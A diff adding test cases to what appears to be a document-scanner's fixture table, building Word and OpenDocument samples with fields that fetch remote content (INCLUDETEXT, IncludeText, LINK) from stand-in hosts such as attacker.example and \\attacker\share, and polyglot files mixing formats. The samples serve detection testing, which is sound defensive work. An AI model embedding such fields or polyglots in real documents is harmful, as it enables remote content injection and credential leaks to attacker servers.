@@ -123,6 +123,30 @@ HIDING: dict[str, tuple[Any, str]] = {
         docx({"word/glossary.bin": DOCUMENT.format("<w:instrText>DDE c</w:instrText>")}),
         "macros",
     ),
+    "a Word document with a field that shows a part of a page": (
+        docx(body='<w:instrText>INCLUDETEXT  "https://attacker.example/a.docx" \\\\a</w:instrText>'),
+        "external-content",
+    ),
+    "a Word document with a simple field of a file on a server": (
+        docx(body=r"""<w:fldSimple w:instr="IncludeText \\\\attacker\\share\\a.docx"/>"""),
+        "external-content",
+    ),
+    "a Word document with a link to a workbook on a server": (
+        docx(body='<w:instrText>LINK Excel.Sheet.12 </w:instrText><w:instrText>"//attacker/a.xlsx" A1</w:instrText>'),
+        "external-content",
+    ),
+    "a Word document with such a field that a field writes": (
+        docx(body="<w:instrText>QUOTE 82 68</w:instrText><w:instrText> file://attacker/a</w:instrText>"),
+        "external-content",
+    ),
+    "a Word document that is also an OpenDocument text with macros": (
+        docx({"META-INF/manifest.xml": "<manifest/>", "content.xml": "<x/>", "Basic/Standard/Module1.xml": "<x/>"}),
+        "polyglot",
+    ),
+    "an OpenDocument text that is also a workbook": (
+        odt({"[Content_Types].xml": TYPES.format(part="xl/a.xml", kind=f"{OFFICE}spreadsheetml.sheet.main+xml")}),
+        "polyglot",
+    ),
     "a Word document with a project of macros of another name": (
         docx(links=f'<Relationship Id="r9" Type="{RELATIONSHIP}vbaProject" Target="data.bin"/>'),
         "macros",
